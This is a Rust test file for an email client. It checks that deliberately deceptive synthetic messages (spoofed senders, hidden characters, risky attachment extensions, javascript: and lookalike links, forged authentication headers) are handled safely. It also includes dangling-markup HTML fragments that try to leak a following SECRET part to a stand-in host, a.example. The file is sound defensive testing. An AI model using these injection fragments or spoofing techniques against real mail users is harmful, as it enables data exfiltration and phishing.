//! The messages that were made to mislead, one by one: each line of what they must not do is held against the program,
//! from the server to what it shows. A line that nothing here asks about is a fault of this file.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use posthorn_model::Security;
use serde_json::Value;

use crate::posthorn::Posthorn;
use crate::reading::{expectations, is_hidden, is_shown_as, rehearse, say_unsafe};
use crate::server::{Server, shared};

/// All that is known of one message.
struct Facts {
    /// What `list` says of it.
    row: Value,
    /// What `show` says.
    shown: Value,
    /// What came of opening, answering and drawing it.
    opened: Value,
    /// Its attachments, saved twice.
    saved: Vec<PathBuf>,
}

/// When the sandbox took every message.
const RECEIVED: &str = "2025-06-15T15:06:40Z";

fn strings(value: &Value) -> Vec<String> {
    let list = value.as_array().cloned().unwrap_or_default();
    let texts = list.iter().filter_map(Value::as_str);
    texts.map(str::to_owned).collect()
}

/// All fields `name` of the objects in a list.
fn each(list: &Value, name: &str) -> Vec<String> {
    let list = list.as_array().cloned().unwrap_or_default();
    let texts = list.iter().filter_map(|item| item[name].as_str());
    texts.map(str::to_owned).collect()
}

fn address(person: &str) -> &str {
    person
        .rsplit_once('<')
        .map_or(person, |(_, email)| email.trim_end_matches('>'))
}

impl Facts {
    fn text(&self) -> &str {
        self.shown["text"].as_str().unwrap_or_default()
    }

    fn warnings(&self) -> Vec<String> {
        each(&self.shown["from_shown"]["warnings"], "kind")
    }

    fn link_warnings(&self) -> usize {
        let links = self.shown["links"].as_array().cloned().unwrap_or_default();
        let warned = links
            .iter()
            .filter(|link| link["warnings"] != serde_json::json!([]));
        warned.count()
    }

    /// The same people in the list, in the pane and in an answer, and nothing in their names that is not to be seen.
    fn check_people(&self, expect: &Value) -> Vec<String> {
        let mut faults = Vec::new();
        let authors = strings(&self.row["authors"]);
        if authors != strings(&self.shown["from"]) || authors != strings(&self.opened["from"]) {
            faults.push(format!(
                "the list names {authors:?}, the pane {}",
                self.shown["from"]
            ));
        }
        let line = (!authors.is_empty()).then(|| authors.join(", "));
        if self.row["from"].as_str().map(str::to_owned) != line {
            faults.push(format!("the row says {}", self.row["from"]));
        }
        let label = self.shown["from_shown"]["label"].as_str().unwrap_or_default();
        let sender = self.shown["from_shown"]["address"].as_str().unwrap_or_default();
        if !authors.is_empty() && !authors.iter().any(|author| address(author) == sender) {
            faults.push(format!("the pane's sender {sender} is none of {authors:?}"));
        }
        for liar in strings(&expect["from_not_shown_as"]) {
            // Of several authors all are shown: one of them may be anybody.
            let all = authors.iter().all(|author| is_shown_as(author, &liar));
            if !authors.is_empty() && all || is_shown_as(label, &liar) && sender != liar {
                faults.push(format!("shown as {liar}: {authors:?}, {label}"));
            }
        }
        let answers = strings(&self.opened["answers"]);
        let meant: Vec<String> = if strings(&self.opened["reply_to"]).is_empty() {
            authors.clone()
        } else {
            strings(&self.opened["reply_to"])
        };
        for person in meant.iter().filter(|person| address(person).contains('@')) {
            if !answers.iter().any(|answer| address(answer) == address(person)) {
                faults.push(format!("an answer goes to {answers:?}, not to {person}"));
            }
        }
        let subject = self.row["subject"].as_str().unwrap_or_default().to_owned();
        let shown = [label.to_owned(), sender.to_owned(), subject];
        for text in authors.iter().chain(&shown) {
            if let Some(c) = text.chars().find(|c| is_hidden(*c)) {
                faults.push(format!("{c:?} in {text:?}"));
            }
        }
        faults
    }

    /// Saved under safe names, in the folder, over nothing, and not to be run.
    fn check_files(&self, expect: &Value, folder: &Path) -> Vec<String> {
        let mut faults = Vec::new();
        let list = self.shown["attachments"].as_array().cloned().unwrap_or_default();
        let names: Vec<String> = each(&self.shown["attachments"], "name");
        for name in &names {
            faults.extend(say_unsafe(name).map(|why| format!("{name:?}: {why}")));
        }
        if names != strings(&self.opened["names"]) {
            faults.push(format!("named {names:?} and {}", self.opened["names"]));
        }
        if self.saved.len() != 2 * list.len() {
            faults.push(format!(
                "{} files of {} attachments, twice",
                self.saved.len(),
                list.len()
            ));
        }
        let different: BTreeSet<&PathBuf> = self.saved.iter().collect();
        if different.len() != self.saved.len() {
            faults.push(format!("one over the other: {:?}", self.saved));
        }
        for file in &self.saved {
            let whole = std::fs::canonicalize(file).unwrap();
            if whole.parent() != Some(folder) {
                faults.push(format!("{} is not in the folder", whole.display()));
            }
            #[cfg(unix)]
            {
                use std::os::unix::fs::PermissionsExt as _;
                let mode = std::fs::metadata(&whole).unwrap().permissions().mode();
                if mode & 0o111 != 0 {
                    faults.push(format!("{} can be run: {mode:o}", whole.display()));
                }
            }
        }
        let Some(wished) = expect["raw_name"].as_str() else {
            return faults;
        };
        if names.is_empty() {
            faults.push("its attachment has no name".to_owned());
        }
        let end = |name: &str| {
            let kept: String = name.chars().filter(|c| !is_hidden(*c)).collect();
            let leaf = kept.rsplit(['/', '\\']).next().unwrap_or_default();
            let end = leaf.rsplit_once('.').filter(|(stem, _)| !stem.is_empty());
            let end = end.map(|(_, end)| end.trim().to_lowercase());
            end.filter(|end| !end.is_empty() && end.chars().all(char::is_alphanumeric))
        };
        let true_end = end(wished);
        if let (Some(true_end), Some(name)) = (&true_end, names.first())
            && wished.len() < 200
            && end(name).as_ref() != Some(true_end)
        {
            faults.push(format!("{wished:?} is shown as {name:?}"));
        }
        let does_harm = true_end.is_some_and(|end| RISKY.contains(&end.as_str()));
        if does_harm && list.iter().any(|part| part["risk"] != "ask") {
            faults.push(format!("{wished:?} opens without a question"));
        }
        faults
    }
}

/// What can do harm when it is opened.
const RISKY: &[&str] = &[
    "exe", "lnk", "scf", "hta", "js", "appimage", "jar", "iso", "one", "html", "bat", "sh", "desktop", "url",
    "cmd",
];

type Check = fn(&Facts) -> bool;

/// Files by the start of their names, and what is so of each.
const CHECKS: &[(&str, Check)] = &[
    ("A-two-from-headers", |facts| {
        facts.warnings().contains(&"ambiguous".to_owned())
    }),
    ("A-from-space-colon", |facts| {
        !facts.warnings().is_empty() || facts.shown["defects"] != serde_json::json!([])
    }),
    ("A-no-from", |facts| {
        facts.row["from"].is_null() && facts.shown["from_shown"].is_null()
    }),
    ("A-auth-results-forged", |facts| {
        facts.shown["verdict"]["mark"] != "verified"
    }),
    ("A-received-date-future", |facts| facts.row["date"] == RECEIVED),
    ("B-name-vs-filename", |facts| {
        each(&facts.shown["attachments"], "name") == ["a.txt"]
    }),
    ("B-two-filenames", |facts| {
        each(&facts.shown["attachments"], "name").len() == 1
    }),
    ("B-rfc2231-split-ext", |facts| {
        let first = &facts.shown["attachments"][0];
        first["name"] == "invoice.pdf.exe" && first["risk"] == "ask"
    }),
    ("B-rfc2231-gap-dup", |facts| facts.opened["panicked"] == false),
    // Only what came in the message goes on: the file that it names is not read (see the trace of system calls).
    ("B-filename-tmp", |facts| facts.opened["panicked"] == false),
    ("B-ics-organizer-attach", |facts| {
        facts.shown["invitations"][0]["uid"].is_string()
    }),
    ("B-vcard-photo-uri", |facts| {
        let urls = strings(&facts.shown["cards"][0]["urls"]);
        facts.shown["cards"][0].is_object() && urls.iter().all(|url| !url.starts_with("javascript"))
    }),
    ("B-deep-uuencode", |facts| {
        facts.text().contains("begin") || !facts.saved.is_empty()
    }),
    ("C-mdn-", |facts| {
        facts.shown["receipt"].is_null() || facts.shown["receipt"]["state"] != "answered"
    }),
    ("C-list-unsubscribe-get", |facts| {
        let ways = &facts.shown["list"]["unsubscribe"];
        let urls = each(ways, "url");
        urls.iter().all(|url| url.starts_with("https:"))
    }),
    // See the test of parts below.
    ("C-encrypted-parts-not-joined", |facts| {
        facts.opened["panicked"] == false
    }),
    ("C-two-html-parts", |facts| facts.opened["panicked"] == false),
    ("D-script", |facts| !facts.text().contains("alert(")),
    ("D-js-url", |facts| {
        each(&facts.shown["links"], "url")
            .iter()
            .all(|url| !url.starts_with("javascript"))
    }),
    ("D-link-userinfo", |facts| facts.link_warnings() > 0),
    ("D-link-idn", |facts| facts.link_warnings() > 0),
    ("D-link-rtl", |facts| {
        let urls = each(&facts.shown["links"], "url");
        urls.len() <= 1 && !urls.iter().any(|url| url.contains(is_hidden))
    }),
    ("D-form-password", |facts| {
        facts.opened["blocked"].as_u64() > Some(0)
    }),
    // Drawn, within the bounds that are asked of all.
    ("D-", |facts| facts.opened["panicked"] == false),
    ("E-header-1mb-line", |facts| {
        facts.row["subject"].as_str().unwrap().chars().count() <= 1_000
    }),
    ("E-date-y10k", |facts| facts.row["date"] == RECEIVED),
    // Two digits are a year of this century (RFC 5322 section 4.3).
    ("E-date-1900", |facts| facts.row["date"] == "2000-01-01T00:00:00Z"),
    ("E-date-neg", |facts| facts.row["date"] == RECEIVED),
    ("E-no-blank-line", |facts| facts.row["id"].is_number()),
    ("E-boundary-missing", |facts| !facts.text().is_empty()),
    ("E-boundary-prefix", |facts| facts.text().contains("inner")),
    ("E-boundary-encoded", |facts| facts.opened["panicked"] == false),
    ("E-two-ctes", |facts| {
        facts.shown["defects"] != serde_json::json!([])
    }),
    ("E-alt-conflict", |facts| {
        let preview = facts.row["preview"].as_str().unwrap_or_default();
        let shown = if facts.shown["html"].is_string() {
            "Please pay"
        } else {
            "Do NOT pay"
        };
        preview.contains(shown)
    }),
    ("E-partial-fragment", |facts| facts.row["id"].is_number()),
    ("E-ansi-body", |facts| facts.opened["panicked"] == false),
    ("E-to-20000", |facts| {
        facts.row["to"].as_str().is_some_and(|to| to.len() < 400)
    }),
    // Listed, stored as served, opened in time: what is asked of all.
    ("E-", |facts| facts.row["id"].is_number()),
    ("G-fake-status-headers", |facts| {
        facts.row["flags"] == serde_json::json!([])
    }),
    ("G-", |facts| facts.shown["verdict"]["mark"] != "verified"),
];

fn find_faults(name: &str, facts: &Facts, expect: &Value, folder: &Path) -> Vec<String> {
    let mut faults = facts.check_files(expect, folder);
    faults.extend(facts.check_people(expect));
    let mut asked =
        expect["from_not_shown_as"].is_array() || expect["raw_name"].is_string() || expect["leak"] == 1;
    for (start, check) in CHECKS.iter().filter(|(start, _)| name.starts_with(start)) {
        asked = true;
        if !check(facts) {
            faults.push(format!(
                "not as {start} must be: {} {} {}",
                facts.row, facts.shown["links"], facts.shown["defects"]
            ));
        }
    }
    if !asked && expect["cat"] != "C" {
        faults.push(format!("nothing asks: {}", expect["must"]));
    }
    faults
}

#[test]
fn what_was_made_to_mislead_does_not() {
    let Some(corpus) = shared("mail/synthetic") else {
        println!("skipped: no synthetic mail lies beside the project");
        return;
    };
    let expected = expectations(&corpus);
    let names: Vec<&String> = expected.keys().collect();
    let server = Server::sandbox(Security::Tls);
    let raws: Vec<Vec<u8>> = names
        .iter()
        .map(|name| std::fs::read(corpus.join(name)).unwrap())
        .collect();
    server.seed("INBOX", raws.iter().map(|raw| (raw.as_slice(), "")));
    let posthorn = server.profile("imap", Security::Tls, None);
    let report = posthorn.run(&["sync"]).expect(0).json();
    assert_eq!(report["accounts"][0]["new"], raws.len(), "{report}");
    let dump = posthorn.json(&["dump"]);
    let ids: BTreeMap<String, u64> = dump["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|message| {
            (
                message["sha"].as_str().unwrap().to_owned(),
                message["id"].as_u64().unwrap(),
            )
        })
        .collect();
    let rows: BTreeMap<u64, Value> = posthorn
        .list(&["list", "work/INBOX", "--limit", "1000"], "messages")
        .into_iter()
        .map(|row| (row["id"].as_u64().unwrap(), row))
        .collect();
    let (opened, _) = rehearse(&[corpus.to_str().unwrap()]);
    let opened: BTreeMap<String, Value> = opened
        .into_iter()
        .filter_map(|message| {
            let name = Path::new(message["file"].as_str()?)
                .file_name()?
                .to_str()?
                .to_owned();
            Some((name, message))
        })
        .collect();
    let folder = tempfile::tempdir().unwrap();
    let mut faults = Vec::new();
    for (name, raw) in names.iter().zip(raws) {
        // Byte for byte as served, or it is not there.
        let Some(id) = ids.get(&crate::corpus::sha24(&raw)) else {
            faults.push(format!("{name}: not stored as it was served"));
            continue;
        };
        let id = id.to_string();
        let files = std::fs::canonicalize(folder.path()).unwrap().join(name.as_str());
        std::fs::create_dir(&files).unwrap();
        let shown = posthorn.json(&["show", &id]);
        let mut saved = Vec::new();
        if shown["attachments"] != serde_json::json!([]) {
            for _ in 0..2 {
                let words = ["attachments", &id, "--save", files.to_str().unwrap()];
                let list = posthorn.list(&words, "attachments");
                saved.extend(
                    list.iter()
                        .filter_map(|part| part["saved"].as_str().map(PathBuf::from)),
                );
            }
        }
        let facts = Facts {
            row: rows.get(&id.parse().unwrap()).cloned().unwrap_or_default(),
            shown,
            opened: opened.get(name.as_str()).cloned().unwrap_or_default(),
            saved,
        };
        let found = find_faults(name, &facts, &expected[name.as_str()], &files);
        faults.extend(found.into_iter().map(|fault| format!("{name}: {fault}")));
    }
    assert_eq!(
        posthorn.json(&["outbox"]),
        serde_json::json!([]),
        "nothing is sent unasked"
    );
    println!("{} messages", names.len());
    assert!(faults.is_empty(), "{} faults: {faults:#?}", faults.len());
}

/// Everything that a page would ask for, with the bytes of the part that comes behind an open quote.
#[test]
fn no_part_swallows_the_next() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("x.png");
    let posthorn = Posthorn::new(None);
    for open in [
        "<img src=\"http://a.example/?p=",
        "<img src='http://a.example/?p=",
        "<img src=http://a.example/?p=",
        "<img alt=\"'\" src = \"http://a.example/?p=",
        "<svg><style><img src=\"http://a.example/?p=</style>",
        "<svg><title><img src='http://a.example/?p=</title>",
        "<a href=\"http://a.example/?p=",
        "<p style=\"background:url(http://a.example/?p=",
        "<style>p{background:url(http://a.example/?p=",
        "<!-- ",
        "<script><!--<script>",
        "<svg><![CDATA[",
        "<textarea>",
        "<title>",
    ] {
        let raw = format!(
            "From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
             --b\r\nContent-Type: text/html\r\n\r\n<p>before</p>{open}\r\n--b\r\nContent-Type: text/plain\r\n\r\n\
             SECRET\r\n--b\r\nContent-Type: text/html\r\n\r\n\">'><p>after</p>\r\n--b--\r\n"
        );
        let words = ["render", "-", "--width", "500", "--out", out.to_str().unwrap()];
        let value = posthorn.run_with_input(&words, raw.as_bytes()).expect(0).json();
        let asked = [
            each(&value["blocked"], "url"),
            each(&value["links"], "url"),
            strings(&value["remote"]),
        ]
        .concat();
        assert!(
            !asked.iter().any(|url| url.contains("SECRET")),
            "{open}: {asked:?}"
        );
        let text = value["text"].as_str().unwrap();
        for word in ["before", "SECRET", "after"] {
            assert!(text.contains(word), "{word} is missing behind {open}: {text}");
        }
        assert!(!text.contains("x-end") && !text.contains("]]"), "{text}");
    }
}
